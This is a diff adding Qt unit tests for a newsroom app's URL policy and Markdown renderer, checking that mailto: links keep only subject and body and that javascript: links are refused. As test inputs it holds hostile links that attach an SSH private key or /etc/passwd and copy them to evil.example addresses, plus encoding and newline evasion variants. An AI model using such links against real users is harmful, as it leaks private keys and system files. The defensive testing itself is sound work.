@@ -4,6 +4,7 @@
 
 #include <QDir>
 #include <QFile>
+#include <QRegularExpression>
 #include <QTest>
 
 using namespace newsroom;
@@ -211,6 +212,52 @@ private Q_SLOTS:
         QVERIFY(!urlpolicy::isAllowed(QStringLiteral("file:///etc/passwd")));
         QVERIFY(!urlpolicy::isAllowed(QStringLiteral("ftp://example.org")));
         QVERIFY(!urlpolicy::isAllowed(QString()));
+    }
+
+    // A mail client acts on every field of a mailto: link: attach= hands it a file.
+    void mailtoKeepsOnlySubjectAndBody_data()
+    {
+        QTest::addColumn<QString>("url");
+        QTest::addColumn<QString>("expected");
+        QTest::newRow("plain") << "mailto:desk@example.org"
+                               << "mailto:desk@example.org";
+        QTest::newRow("subject and body")
+            << "mailto:desk@example.org?subject=Tip&body=Hello%20desk"
+            << "mailto:desk@example.org?subject=Tip&body=Hello%20desk";
+        QTest::newRow("attach") << "mailto:desk@example.org?attach=/home/jo/.ssh/id_rsa"
+                                << "mailto:desk@example.org";
+        QTest::newRow("attach among others")
+            << "MAILTO:desk@example.org?subject=Tip&attach=file:///etc/passwd&cc=a@evil.example"
+               "&bcc=b@evil.example&to=c@evil.example&body=Hi#frag"
+            << "mailto:desk@example.org?subject=Tip&body=Hi";
+        QTest::newRow("names in any case or encoding")
+            << "mailto:desk@example.org?SUBJECT=x&%61ttach=y&Body=z"
+            << "mailto:desk@example.org?SUBJECT=x&Body=z";
+        QTest::newRow("split by a newline") << "mailto:desk@example.org?att\nach=/etc/passwd"
+                                            << "mailto:desk@example.org";
+        QTest::newRow("semicolon fields")
+            << "mailto:desk@example.org?subject=x;attach=/etc/passwd"
+            << "mailto:desk@example.org?subject=x%3Battach=/etc/passwd";
+        QTest::newRow("web address untouched") << "https://example.org/a?attach=1#x"
+                                               << "https://example.org/a?attach=1#x";
+        QTest::newRow("refused") << "javascript:alert(1)"
+                                 << "";
+    }
+    void mailtoKeepsOnlySubjectAndBody()
+    {
+        QFETCH(QString, url);
+        QFETCH(QString, expected);
+        QCOMPARE(urlpolicy::forPage(url), expected);
+    }
+
+    void mailtoLinksInTheBodyAreStripped()
+    {
+        const QString html = MarkdownRenderer::toHtml(QStringLiteral(
+            "[write in](mailto:desk@example.org?subject=Tip&attach=%2Fetc%2Fpasswd) and "
+            "<mailto:desk@example.org?attach=x>"));
+        QVERIFY(html.contains(QStringLiteral("href=\"mailto:desk@example.org?subject=Tip\"")));
+        QVERIFY(html.contains(QStringLiteral("href=\"mailto:desk@example.org\"")));
+        QVERIFY(!html.contains(QRegularExpression(QStringLiteral("href=\"[^\"]*attach"))));
     }
 };
 
